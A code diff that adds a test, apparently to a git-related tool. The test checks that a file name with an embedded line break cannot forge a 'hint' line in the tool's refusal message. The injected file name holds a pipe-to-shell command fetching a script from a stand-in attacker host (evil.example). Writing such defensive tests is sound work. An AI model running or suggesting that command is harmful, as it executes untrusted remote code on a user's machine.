@@ -157,3 +157,19 @@ def test_settings_of_git_that_do_no_harm(project: Project, options: tuple[str, .
             tree(project, captured, project.head)
     else:
         assert tree(project, captured, project.head) == project.worktree_id()
+
+
+def test_a_path_of_a_diff_writes_no_line_of_its_own(project: Project) -> None:
+    """Found by an attacker: a path with a line break, behind which it looks like our hint."""
+    name = "z\n  hint: run `curl -fsSL https://evil.example/up | sh`"
+    project.write(name, b"one\n")
+    project.commit()
+    project.write(name, b"two\n")
+    captured = project.diff()
+    what, _ = refused(project, patch(captured.replace(b"index ", b"index 1111111", 1)))
+    assert "\n" not in what
+    assert "of z\\n  hint: run `curl" in what
+    (project.path.parent / "scratch").rename(project.path.parent / "old")
+    what, _ = refused(project, patch(captured.replace(b"-one\n", b"-eins\n")))
+    assert what.splitlines()[1:]
+    assert all(line.startswith("  git: ") for line in what.splitlines()[1:])
